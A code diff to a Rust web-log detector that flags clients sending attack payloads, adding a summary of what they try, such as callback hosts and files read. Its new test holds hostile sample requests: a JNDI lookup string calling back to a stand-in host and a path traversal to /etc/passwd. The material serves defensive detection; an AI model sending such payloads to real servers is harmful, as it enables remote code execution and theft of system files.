@@ -13,7 +13,8 @@
 //! its clients attack, with 3 attacks a client, 200 in all, or all within a day or a tenth of the log:
 //! tools have the same agent everywhere, and the internet's background comes with them. Requests that
 //! leave through a proxy count only from 20 attacks on and where they are a tenth of the client's
-//! requests.
+//! requests. What they try is read from the first request of each payload shape, at most 16: it decides
+//! nothing. Hosts that are to be called back (`callback_hosts`) were not seen to be contacted.
 //! ## Parameters
 //! - `many` | 20 | requests | 5-1000 | beyond the internet's background (the contract's severity table)
 //! - `few` | 2 | requests | 1-10 | a client with no more and no probes is background
@@ -28,12 +29,14 @@
 //! Search boxes about code, forums of programmers, advertising URLs that carry URLs: payload without the
 //! grammar of an attack, one page, a referrer of the own site. Own penetration tests: ask who runs them.
 //! ## Misses
-//! Payloads in POST bodies and cookies that the log does not carry; new tricks without a known word.
+//! Payloads in POST bodies and cookies that the log does not carry; new tricks without a known word. What
+//! they try is read from target and user agent only.
 //! ## Cost
 //! Counts in the client's row; at most 500 lines a client in the second pass.
 //! ## Sources
 //! OWASP Core Rule Set 4 and libinjection for the classes; measurements in the documentation of the rules.
 
+use super::tries::tries;
 use crate::detect::actor::is_outgoing;
 use crate::detect::header::header;
 use crate::detect::{Detector, Draft, Finding, Meta, Severity, Site, Stage, Suspect};
@@ -329,13 +332,14 @@ impl Detector for Attack {
                 draft.last_us = if is_whole { attacks.iter().filter_map(times).max() } else { draft.last_us };
             }
             draft.number("n_pages", pages.len());
+            let tries = tries(&mut draft, &attacks, site);
             let who = draft.clients.iter().map(|c| site.client_text(*c)).next().unwrap_or_default();
             let classes = attacks.iter().fold(ClassSet::EMPTY, |set, e| set.union(e.verdict.classes));
             let row = draft.clients.first().and_then(|c| site.client(*c)).map(|(row, _)| *row);
             let classes = row.map_or(classes, |r| r.classes.union(classes));
             let n_ok = row.map_or(0, |r| u64::from(r.n_attacks_ok));
             draft.statement = format!(
-                "{who} sent {} with an attack payload ({}) to {}{}{}; {} answered 2xx, which by itself proves nothing.",
+                "{who} sent {} with an attack payload ({}) to {}{}{}{tries}; {} answered 2xx, which by itself proves nothing.",
                 counted(draft.n_requests, "request"),
                 list(&class_names(classes), 6),
                 if is_whole { "" } else { "at least " },
@@ -343,6 +347,8 @@ impl Detector for Attack {
                 span(draft.first_us, draft.last_us),
                 if n_ok == 1 { "1 was".to_owned() } else { format!("{} were", count(n_ok)) },
             );
+        } else {
+            tries(&mut draft, &attacks, site);
         }
         vec![draft.finish(&META)]
     }
@@ -388,6 +394,26 @@ mod tests {
             "203.0.113.9 sent 4 requests with an attack payload (cmdi, sqli and xss) to 3 pages from \
              2020-01-01T12:00:00Z to 2020-01-01T12:00:03Z; 0 were answered 2xx, which by itself proves nothing."
         );
+    }
+
+    #[test]
+    fn what_they_try_is_said() {
+        let site = TestSite::new(vec![
+            to_server(T0, "203.0.113.9", "GET", "/a?x=${jndi:ldap://198.51.100.7:99/a}", 404).attack(
+                Class::Jndi,
+                1,
+                3,
+            ),
+            to_server(T0 + 1, "203.0.113.9", "GET", "/b?f=../../etc/passwd", 404).attack(Class::Lfi, 2, 3),
+            to_server(T0 + 2, "203.0.113.9", "GET", "/b?f=../../etc/passwd", 404).attack(Class::Lfi, 2, 3),
+        ]);
+        let found = &site.run(&Attack(Params::DEFAULT))[0];
+        let tries = "trying to call back to 198.51.100.7 and read /etc/passwd; 0 were answered";
+        assert!(found.statement.contains(tries), "{}", found.statement);
+        assert_eq!(found.callback_hosts.iter().collect::<Vec<_>>(), ["198.51.100.7"]);
+        assert!(found.hosts.is_empty());
+        assert_eq!(found.numbers["files"], "/etc/passwd".into());
+        assert_eq!(found.numbers["n_payload_shapes"], 2u64.into());
     }
 
     #[test]
